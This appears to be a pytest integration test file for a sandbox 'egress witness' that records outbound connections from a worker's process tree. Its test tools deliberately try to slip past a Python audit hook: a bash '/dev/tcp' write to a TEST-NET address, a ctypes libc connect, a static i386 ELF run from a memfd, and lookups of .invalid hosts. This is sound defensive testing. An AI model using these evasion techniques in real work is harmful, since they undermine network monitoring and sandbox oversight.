"""The egress witness serves the worker's whole process tree in a real episode.

The tool runs a curl-like child (bash's ``/dev/tcp``, not Python: the audit hook cannot see it)
and a ctypes ``connect`` (past the socket module), both to TEST-NET-1 192.0.2.1 inside the
``network_mode=none`` sandbox; the witness answers ``ENETUNREACH`` before the kernel would try,
so nothing leaves the machine. Both are in the episode's outbound log and its coverage is
``full``; a Python connect, seen by the hook and the witness alike, is counted once.
"""

from __future__ import annotations

import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from runner.backends.docker import DockerBackend
from tests.integration._episodes import Outcome, Project
from tests.integration.test_egress_witness import _I386_EXIT, _elf

pytestmark = pytest.mark.docker

TOOLS = """
import ctypes, socket, struct, subprocess
from runner.sdk import Effect, tool


@tool("net.hidden", effect=Effect.LOCAL)
def hidden() -> str:
    shell = subprocess.run(["bash", "-c", "echo x > /dev/tcp/192.0.2.1/80"], capture_output=True)
    libc = ctypes.CDLL(None, use_errno=True)
    s = socket.socket()
    addr = struct.pack("=H", 2) + struct.pack("!H", 443) + bytes([192, 0, 2, 1]) + bytes(8)
    code = libc.connect(s.fileno(), addr, 16)
    return "bash %%d ctypes %%d errno %%d" %% (shell.returncode, code, ctypes.get_errno())


# the i386 ABI from a 64-bit program: int 0x80 with eax=1 (exit(0)), in a minimal static ELF
# (tests/integration/test_egress_witness.py builds the same), run from a memfd (tmpfs is noexec)
I386_EXIT = %r


@tool("net.foreign_abi", effect=Effect.LOCAL)
def foreign_abi() -> str:
    import os
    fd = os.memfd_create("bin", 0)
    os.write(fd, I386_EXIT)
    return "exit %%d" %% subprocess.call(["/proc/self/fd/%%d" %% fd], pass_fds=(fd,))


@tool("net.lookups", effect=Effect.LOCAL)
def lookups() -> str:
    shell = subprocess.run(
        ["bash", "-c", "echo x > /dev/tcp/shell-child.invalid/443"], capture_output=True
    )
    try:
        socket.getaddrinfo("python-tool.invalid", 8443)
        python = "resolved"
    except OSError as exc:
        python = type(exc).__name__
    return "bash %%d python %%s" %% (shell.returncode, python)


@tool("net.plain", effect=Effect.LOCAL)
def plain() -> str:
    return "connect_ex %%d" %% socket.socket().connect_ex(("192.0.2.1", 8080))
"""


@pytest.fixture(scope="module")
def backend(docker_client: Any) -> Iterator[DockerBackend]:
    b = DockerBackend.connect(session_id=f"wwitness-{uuid.uuid4().hex[:10]}")
    yield b
    b.close()


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Project:
    source = TOOLS % _elf(_I386_EXIT)
    return Project(tmp_path_factory.mktemp("wwitness") / "proj", source, module="hidden_tools")


def _run(project: Project, backend: Any, image: str, tmp_path: Path, tool: str) -> Outcome:
    workflow = project.workflow(f"- {{id: s, tool: {tool}}}\n")
    out = project.run(backend, image, workflow, state_dir=tmp_path / "state", timeout_s=120)
    assert out.result.status == "succeeded", out.end
    return out


def _connects(out: Outcome) -> dict[tuple[Any, Any], dict[str, Any]]:
    return {(a["address"], a["port"]): a for a in out.end["outbound"] if a["kind"] == "connect"}


def test_a_shell_child_and_ctypes_are_in_the_log_with_full_coverage(
    project: Project, backend: Any, sandbox_image: str, tmp_path: Path
) -> None:
    out = _run(project, backend, sandbox_image, tmp_path, "net.hidden")
    connects = _connects(out)
    assert {("192.0.2.1", 80), ("192.0.2.1", 443)} <= set(connects), out.end["outbound"]
    assert all(connects[k]["event"].startswith("seccomp.") for k in connects), connects
    assert out.end["coverage"] == "full", out.end["coverage_detail"]
    assert "errno 101" in str(out.end["output"]), out.end["output"]  # ENETUNREACH, answered


def test_a_python_connect_seen_by_hook_and_witness_counts_once(
    project: Project, backend: Any, sandbox_image: str, tmp_path: Path
) -> None:
    out = _run(project, backend, sandbox_image, tmp_path, "net.plain")
    (connect,) = _connects(out).values()
    assert (connect["address"], connect["port"], connect["count"]) == ("192.0.2.1", 8080, 1)
    assert out.end["coverage"] == "full", out.end["coverage_detail"]


def test_a_child_killed_for_a_foreign_abi_is_named_in_the_episode(
    project: Project, backend: Any, sandbox_image: str, tmp_path: Path
) -> None:
    out = _run(project, backend, sandbox_image, tmp_path, "net.foreign_abi")
    assert "exit -31" in str(out.end["output"]), out.end["output"]  # SIGSYS
    (killed,) = [a for a in out.end["outbound"] if a["kind"] == "foreign_abi"]
    assert killed["outcome"] == "killed" and "arch=0x40000003" in killed["event"], killed


def test_lookups_show_by_name_and_the_resolver_is_no_destination(
    project: Project, backend: Any, sandbox_image: str, tmp_path: Path
) -> None:
    """The resolver's queries to the sandbox's nameserver are the lookups of their names: a
    non-Python child's lookup shows by name (the witness reads the query), a Python tool's once
    (the hook's entry, port included, and the witness's are one destination)."""
    out = _run(project, backend, sandbox_image, tmp_path, "net.lookups")
    assert "python gaierror" in str(out.end["output"]), out.end["output"]
    outbound = out.end["outbound"]
    names = {(a["host"], a["port"]): a for a in outbound if a["kind"] == "dns"}
    assert ("shell-child.invalid", None) in names, outbound
    assert names[("shell-child.invalid", None)]["event"] == "seccomp.dns"
    assert [k for k in names if k[0] == "python-tool.invalid"] == [("python-tool.invalid", 8443)]
    assert not [a for a in outbound if a.get("port") == 53], outbound  # no nameserver entry
    assert out.end["coverage"] == "full", out.end["coverage_detail"]
